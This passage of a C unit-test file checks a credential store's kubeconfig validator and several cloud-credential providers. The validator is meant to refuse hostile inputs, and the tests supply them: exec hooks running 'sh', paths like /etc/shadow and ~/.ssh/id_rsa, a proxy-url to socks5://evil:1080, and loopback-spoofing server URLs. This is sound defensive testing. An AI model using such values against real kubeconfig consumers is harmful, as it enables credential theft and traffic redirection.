      {KUBE_WITH_USER("    as-groups: !!seq [a]\n"), "users[0].user.as-groups: YAML tags"},
      {"%TAG !k! tag:example.com,2024:\n---\n" KUBE_WITH_USER("    token: !k!t t\n"),
       "users[0].user.token: YAML tags"},
      {"!!map\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT, "the document: YAML tags"},
  };

  (void)state;
  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
}

/* Fields kubectl reads that run a program, read a file on the consumer's
 * machine or send traffic elsewhere, and fields credstore does not know. */
static void test_kube_refused_fields(void **state)
{
  static const struct kube_case cases[] = {
      {KUBE_WITH_USER("    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n"),
       "users[0].user.tokenFile: reads the token from a file"},
      {KUBE_WITH_USER("    client-certificate: /home/u/.ssh/id_rsa\n"
                      "    client-key-data: LS0t\n"),
       "users[0].user.client-certificate: names a file on the consumer's machine"},
      {KUBE_WITH_USER("    client-certificate-data: LS0t\n    client-key: /etc/shadow\n"),
       "users[0].user.client-key: names a file"},
      {KUBE_WITH_USER("    client-key: /etc/shadow\n"), "client-key-data"},
      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    certificate-authority: /etc/ca.pem\n"),
       "clusters[0].cluster.certificate-authority: names a file"},
      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    proxy-url: socks5://evil:1080\n"),
       "clusters[0].cluster.proxy-url: would send the cluster's traffic"},
      /* refused by name, whatever the value */
      {KUBE_WITH_USER("    exec: ~\n"), "users[0].user.exec: users that authenticate"},
      {KUBE_WITH_USER("    auth-provider: {name: oidc, config: {idp-issuer-url: https://i}}\n"),
       "users[0].user.auth-provider: users that authenticate through exec or auth-provider"},
      /* unknown fields: other cases and spellings, and at every level */
      {KUBE_WITH_USER("    Exec: {command: sh}\n"), "users[0].user.Exec is not a kubeconfig field"},
      {KUBE_WITH_USER("    token-file: /t\n"), "users[0].user.token-file is not a kubeconfig"},
      {KUBE_WITH_USER("    Token: t\n"), "users[0].user.Token is not"},
      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    Server: https://evil\n"),
       "clusters[0].cluster.Server is not"},
      {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
                                "    user: u1\n    exec: sh\n" KUBE_CURRENT,
       "contexts[0].context.exec is not"},
      {KUBE_CLUSTERS "users:\n- name: u1\n  exec: {command: sh}\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].exec is not"},
      {"kubectl-plugins: {}\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
       "kubectl-plugins is not"},
      {"preferences: {exec: sh}\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
       "preferences.exec is not"},
      {KUBE_WITH_USER("    token: t\n    extensions:\n    - name: e\n      exec: sh\n"),
       "users[0].user.extensions[0].exec is not"},
      /* a key that might be a misplaced secret is not repeated */
      {KUBE_WITH_USER("    sekrit-token-value+/=: x\n"), "users[0].user.? is not"},
      {KUBE_WITH_USER("    sekrit-token-value-that-is-far-too-long-to-be-a-field-name: x\n"),
       "users[0].user.? is not"},
      /* shapes and duplicates, anywhere in the checked tree */
      {KUBE_WITH_USER("    token: a\n    token: b\n"), "users[0].user.token appears twice"},
      {KUBE_WITH_USER("    token: {a: b}\n"), "users[0].user.token must be a single value"},
      {KUBE_WITH_USER("    as-groups: a\n"), "users[0].user.as-groups must be a list"},
      {KUBE_WITH_USER("    as-groups: [[a]]\n"), "users[0].user.as-groups[0] must be a single"},
      {KUBE_WITH_USER("    as-user-extra: [a]\n"), "users[0].user.as-user-extra must be a mapping"},
      {KUBE_WITH_USER("    as-user-extra: {scopes: a}\n"),
       "users[0].user.as-user-extra.scopes must be a list"},
      {KUBE_WITH_USER("    extensions: [a]\n"), "users[0].user.extensions[0] must be a mapping"},
      {"preferences: []\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
       "preferences must be a mapping"},
      {KUBE_CLUSTERS "users: [a]\n" KUBE_CONTEXTS KUBE_CURRENT, "users[0] must be a mapping"},
  };

  (void)state;
  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
}

/* server must be https, or http to loopback; TLS checks may be skipped only
 * on loopback; no user info in the URL (it is shown in the metadata). */
static void test_kube_server_rules(void **state)
{
  static const char *const ok[] = {
      "https://c1:6443",           "https://10.0.0.1",         "https://[2001:db8::1]:6443/k8s",
      "http://127.0.0.1:8080",     "http://127.1.2.3",         "http://[::1]:8080/",
      "http://localhost:8080/api", "http://[0:0:0:0:0:0:0:1]",
  };
  static const struct kube_case cases[] = {
      {KUBE_WITH_CLUSTER("    server: http://10.0.0.1:8080\n"),
       "clusters[0].cluster.server: plain http is accepted only to a loopback host"},
      {KUBE_WITH_CLUSTER("    server: http://c1.example.com\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1.nip.io\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://localhost.evil.com:80\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://127.1\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://0177.0.0.1\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://2130706433\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://[::ffff:127.0.0.1]\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://[::1%25lo]\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: \"http://127.0.0.1:\"\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1:80:80\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1:1234567\n"), "plain http"},
      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1@evil.com/\n"),
       "clusters[0].cluster.server must not carry a user name or password"},
      {KUBE_WITH_CLUSTER("    server: https://admin:sekrit@c1:6443\n"),
       "must not carry a user name or password"},
      {KUBE_WITH_CLUSTER("    server: c1:6443\n"), "clusters[0].cluster.server must be an https"},
      {KUBE_WITH_CLUSTER("    server: HTTPS://c1\n"), "must be an https:// URL"},
      {KUBE_WITH_CLUSTER("    server: ftp://c1\n"), "must be an https:// URL"},
      {KUBE_WITH_CLUSTER("    server: \"https://c1\\t/x\"\n"), "spaces or control characters"},
      {KUBE_WITH_CLUSTER("    server: \"https://c1 x\"\n"), "spaces or control characters"},
      {KUBE_WITH_CLUSTER("    server: https://\n"), "clusters[0].cluster.server has no host"},
      {KUBE_WITH_CLUSTER("    server: https:///version\n"), "has no host"},
      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: true\n"),
       "clusters[0].cluster.insecure-skip-tls-verify is accepted only for a loopback server"},
      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: yes\n"),
       "insecure-skip-tls-verify"},
      {KUBE_WITH_CLUSTER("    insecure-skip-tls-verify: on\n    server: https://10.0.0.1\n"),
       "insecure-skip-tls-verify"},
      /* every cluster, not only the current context's */
      {KUBE_CLUSTERS
       "- name: c2\n  cluster:\n    server: http://evil.example.com\n" KUBE_USERS KUBE_CONTEXTS
           KUBE_CURRENT,
       "clusters[1].cluster.server: plain http"},
  };
  char yaml[512];

  (void)state;
  for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
    snprintf(yaml, sizeof yaml, "%s%s%s", "clusters:\n- name: c1\n  cluster:\n    server: ", ok[i],
             "\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT);
    kube_text_ok(yaml);
  }
  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
  kube_text_ok(
      KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: false\n"));
  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://127.0.0.1:6443\n"
                                 "    insecure-skip-tls-verify: true\n"));
  kube_text_ok(
      KUBE_WITH_CLUSTER("    server: http://localhost\n    insecure-skip-tls-verify: true\n"));
  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1\n    insecure-skip-tls-verify: ~\n"));
}

/* Everything a consumer needs inline still validates: tokens, basic auth,
 * inline certificates and keys, impersonation, extensions (as minikube
 * writes them), preferences, and JSON. */
static void test_kube_allowed_fields(void **state)
{
  (void)state;
  kube_text_ok(
      "apiVersion: v1\nkind: Config\npreferences: {colors: true, extensions: []}\n"
      "extensions:\n- name: tool\n  extension: {any: [thing, {x: 1}]}\n"
      "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
      "    certificate-authority-data: LS0tLS1CRUdJTg==\n"
      "    tls-server-name: api.c1\n    disable-compression: true\n"
      "    insecure-skip-tls-verify: false\n"
      "    extensions:\n    - name: cluster_info\n      extension:\n"
      "        provider: minikube.sigs.k8s.io\n        version: v1.32.0\n"
      "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
      "    client-certificate-data: LS0tLS1CRUdJTg==\n"
      "    client-key-data: LS0tLS1CRUdJTg==\n"
      "    as: system:serviceaccount:ns:sa\n    as-uid: \"1234\"\n"
      "    as-groups: [system:authenticated, scanners]\n"
      "    as-user-extra: {scopes: [view, edit], reason: [~]}\n"
      "    extensions: [{name: e, extension: null}]\n"
      "- name: u2\n  user:\n    username: admin\n    password: \"p@ss: word # not a comment\"\n"
      "- name: u3\n  user: ~\n"
      "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
      "    namespace: twistlock\n    extensions:\n    - name: context_info\n"
      "      extension: {last-update: 'Mon, 01 Jan 2024'}\n"
      "current-context: x1\n");
  kube_text_ok(
      "{\"apiVersion\":\"v1\",\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":"
      "\"https://j\",\"certificate-authority-data\":\"LS0t\"}}],\"users\":[{\"name\":"
      "\"u1\",\"user\":{\"username\":\"a\",\"password\":\"b\"}}],\"contexts\":[{\"name\":"
      "\"x1\",\"context\":{\"cluster\":\"c1\",\"user\":\"u1\"}}],\"current-context\":\"x1\","
      "\"preferences\":{}}");
}

static void test_kube_malformed(void **state)
{
  static const char *const bad[] = {
      "clusters: [",
      "clusters:\n\t- name: tab\n",
      "current-context: 'unterminated\n",
      "a: b: c\n",
      "key: \"bad escape \\q\"\n",
      "\xff\xfegarbage",
      "current-context: \xc3\x28\n",
      "clusters:\n  - name: a\n   cluster: x\n",
      "{a: 1, a",
      "%YAML 9.9\n---\na: b\n",
      "- [\n",
  };

  (void)state;
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
    kube_text_fails(bad[i], "kubeconfig:");
  /* Through the provider too: secret.plain is named, no crash, no output. */
  expect_fail("kubeconfig", body_with("kubeconfig", "secret", "clusters: [", NULL), CS_ERR_INVALID,
              "secret.plain");
  expect_fail("kubeconfig", json("{}"), CS_ERR_MISSING, "secret.plain");
  expect_fail("kubeconfig", json("{\"secret\":{\"plain\":1}}"), CS_ERR_INVALID, "secret.plain");
  expect_fail("kubeconfig", json("{\"secret\":\"apiVersion: v1\"}"), CS_ERR_INVALID, "secret");
}

static void test_kube_huge_and_deep(void **state)
{
  size_t big = ((size_t)1 << 20) + 1;
  char *buf = malloc(big + 1);
  struct cs_prov_error err = {.field = {0}};
  cJSON *meta = (cJSON *)&sentinel_meta;
  size_t n;

  (void)state;
  assert_non_null(buf);
  /* over 1 MiB: refused before parsing */
  for (n = 0; n + 5 <= big; n += 5)
    memcpy(buf + n, "a: b\n", 5);
  memset(buf + n, ' ', big - n);
  buf[big] = '\0';
  kube_text_fails(buf, "larger than 1 MiB");

  /* under 1 MiB but a huge number of nodes */
  n = (size_t)snprintf(buf, big, "clusters:\n");
  while (n + 4 < ((size_t)1 << 20) - 16) {
    memcpy(buf + n, "- a\n", 4);
    n += 4;
  }
  buf[n] = '\0';
  kube_text_fails(buf, "nodes");

  /* flow nesting 100000 deep */
  memset(buf, '[', 100000);
  buf[100000] = '\0';
  kube_text_fails(buf, "nested more than");

  /* block mappings 40 deep */
  n = 0;
  for (int d = 0; d < 40; d++) {
    memset(buf + n, ' ', (size_t)d * 2);
    n += (size_t)d * 2;
    n += (size_t)snprintf(buf + n, big - n, "k%d:\n", d);
  }
  buf[n] = '\0';
  kube_text_fails(buf, "nested more than");

  /* describe reads exactly len bytes: garbage after them is not seen */
  char *text = fixture("kubeconfig-token.yaml", &n);
  memcpy(buf, text, n);
  memcpy(buf + n, "\n: ][ garbage", 14);
  assert_int_equal(cs_kubeconfig_describe(buf, n, &meta, &err), CS_OK);
  cJSON_Delete(meta);
  meta = (cJSON *)&sentinel_meta;
  assert_int_equal(cs_kubeconfig_describe(buf, 0, &meta, &err), CS_ERR_MISSING);
  assert_int_equal(cs_kubeconfig_describe(NULL, 10, &meta, &err), CS_ERR_MISSING);
  assert_ptr_equal(meta, (cJSON *)&sentinel_meta);
  free(text);
  free(buf);
}

/* Deterministic mutations of a valid kubeconfig: never a crash, only OK
 * or INVALID, and an OK always comes with a well-formed meta. */
static void test_kube_mutations(void **state)
{
  size_t len;
  char *orig = fixture("kubeconfig-multi.yaml", &len);
  char *buf = malloc(len + 1);
  uint32_t seed = 12345;
  static const char noise[] = "\0\t\n :-[]{}&*!|>'\"#%@`,?\\\xff";

  (void)state;
  assert_non_null(buf);
  for (int round = 0; round < 1500; round++) {
    struct cs_prov_error err = {.field = {0}};
    cJSON *meta = NULL;
    enum cs_err e;

    memcpy(buf, orig, len + 1);
    for (int k = 0; k < 1 + round % 4; k++) {
      seed = seed * 1103515245u + 12345u;
      size_t pos = (seed >> 8) % len;
      seed = seed * 1103515245u + 12345u;
      buf[pos] = noise[(seed >> 8) % (sizeof noise - 1)];
    }
    e = cs_kubeconfig_describe(buf, len, &meta, &err);
    assert_true(e == CS_OK || e == CS_ERR_INVALID);
    if (e == CS_OK) {
      assert_true(cJSON_IsString(cJSON_GetObjectItem(meta, "currentContext")));
      assert_true(cJSON_IsArray(cJSON_GetObjectItem(meta, "clusters")));
      cJSON_Delete(meta);
    } else {
      assert_string_equal(err.field, "secret.plain");
    }
  }
  free(buf);
  free(orig);
}

static void test_kube_resolve_corrupt(void **state)
{
  static const char nul[] = "a: b\0c";
  cJSON *out = NULL;

  (void)state;
  assert_int_equal(resolve(prov("kubeconfig"), NULL, nul, sizeof nul - 1, NULL, &out),
                   CS_ERR_CRYPTO);
  assert_int_equal(resolve(prov("kubeconfig"), NULL, "", 0, NULL, &out), CS_ERR_CRYPTO);
  assert_null(out);
}

/* ----------------------------------------------------- cross-provider */

/* An exact-size heap copy with no NUL after it, so ASan catches any read
 * past the len bytes resolve was given. */
static char *unterminated(const char *s, size_t *len)
{
  char *p;

  *len = strlen(s);
  p = malloc(*len);
  assert_non_null(p);
  memcpy(p, s, *len);
  return p;
}

static void test_resolve_reads_only_len(void **state)
{
  static const struct {
    const char *type, *meta, *payload, *member;
  } cases[] = {
      {"aws", "{\"accountID\":\"" KEY_ID "\"}", KEY_SECRET, "SecretAccessKey"},
      {"gcp", "{\"authType\":\"apiToken\"}", "AIzaSyToken", "apiToken"},
      {"ibmCloud", "{\"accountGUID\":\"abc\"}", "ibm-api-key", "apiKey"},
      {"kubeconfig", "{}", "apiVersion: v1\n", "kubeconfig"},
  };
  char *sk_text = fixture("azure-sdk-auth.json", NULL);
  size_t len;
  char *p;
  cJSON *meta, *out = NULL;

  (void)state;
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    meta = json(cases[i].meta);
    p = unterminated(cases[i].payload, &len);
    assert_int_equal(resolve(prov(cases[i].type), meta, p, len, NULL, &out), CS_OK);
    assert_str_member(out, cases[i].member, cases[i].payload);
    /* a shorter len is honoured, not the bytes after it */
    cJSON_Delete(out);
    assert_int_equal(resolve(prov(cases[i].type), meta, p, len - 1, NULL, &out), CS_OK);
    assert_int_equal(strlen(cJSON_GetObjectItem(out, cases[i].member)->valuestring), len - 1);
    cJSON_Delete(out);
    out = NULL;
    free(p);
    cJSON_Delete(meta);
  }
  meta = json("{}");
  p = unterminated(sk_text, &len);
  assert_int_equal(resolve(prov("azure"), meta, p, len, NULL, &out), CS_OK);
  assert_true(cJSON_IsObject(cJSON_GetObjectItem(out, "serviceKey")));
  cJSON_Delete(out);
  free(p);
  cJSON_Delete(meta);
  free(sk_text);
}

/* Every provider refuses a non-object secret and a non-string plain by
 * naming the field, before looking at anything else it needs. */
static void test_secret_shape_all(void **state)
{
  static const char *const extra[] = {
      "{\"accountID\":\"" KEY_ID "\"}", "{}", "{}", "{\"accountGUID\":\"abc\"}", "{}",
      "{\"accountID\":\"u\"}",          "{}", "{}"};

  (void)state;
  for (size_t i = 0; cs_providers[i]; i++) {
    assert_true(i < sizeof extra / sizeof extra[0]);
    cJSON *b = json(extra[i]);
    cJSON_AddNumberToObject(b, "secret", 1);
    expect_fail(cs_providers[i]->type, b, CS_ERR_INVALID, "secret");
    b = json(extra[i]);
    cJSON_AddItemToObject(b, "secret", json("{\"plain\":{\"nested\":true}}"));
    expect_fail(cs_providers[i]->type, b, CS_ERR_INVALID, "secret.plain");
  }
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_registry),
      cmocka_unit_test(test_resolve_opts_check),
      cmocka_unit_test(test_result_free),
      cmocka_unit_test(test_aws_static_keys),
      cmocka_unit_test(test_aws_role_options),
      cmocka_unit_test(test_aws_instance_role),
      cmocka_unit_test(test_aws_missing),
      cmocka_unit_test(test_aws_bad_key_id),
      cmocka_unit_test(test_aws_bad_secret),
      cmocka_unit_test(test_aws_role_arn),
      cmocka_unit_test(test_aws_numbers_and_flags),
      cmocka_unit_test(test_aws_region_names),
      cmocka_unit_test(test_aws_resolve_corrupt),
      cmocka_unit_test(test_azure_valid),
      cmocka_unit_test(test_azure_invalid),
      cmocka_unit_test(test_azure_resolve_corrupt),
      cmocka_unit_test(test_gcp_service_account),
      cmocka_unit_test(test_gcp_api_token),
      cmocka_unit_test(test_gcp_both),
      cmocka_unit_test(test_gcp_sa_invalid),
      cmocka_unit_test(test_gcp_resolve_corrupt),
      cmocka_unit_test(test_ibm),
      cmocka_unit_test(test_azure_plain_format),
      cmocka_unit_test(test_basic),
      cmocka_unit_test(test_api_token),
      cmocka_unit_test(test_kube_token),
      cmocka_unit_test(test_kube_client_cert),
      cmocka_unit_test(test_kube_multi),
      cmocka_unit_test(test_kube_exec_and_auth_provider),
      cmocka_unit_test(test_kube_bad_context),
      cmocka_unit_test(test_kube_structure),
      cmocka_unit_test(test_kube_merge_keys),
      cmocka_unit_test(test_kube_anchors_aliases_tags),
      cmocka_unit_test(test_kube_refused_fields),
      cmocka_unit_test(test_kube_server_rules),
      cmocka_unit_test(test_kube_allowed_fields),
      cmocka_unit_test(test_kube_malformed),
      cmocka_unit_test(test_kube_huge_and_deep),
      cmocka_unit_test(test_kube_mutations),
      cmocka_unit_test(test_kube_resolve_corrupt),
      cmocka_unit_test(test_secret_shape_all),
      cmocka_unit_test(test_resolve_reads_only_len),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
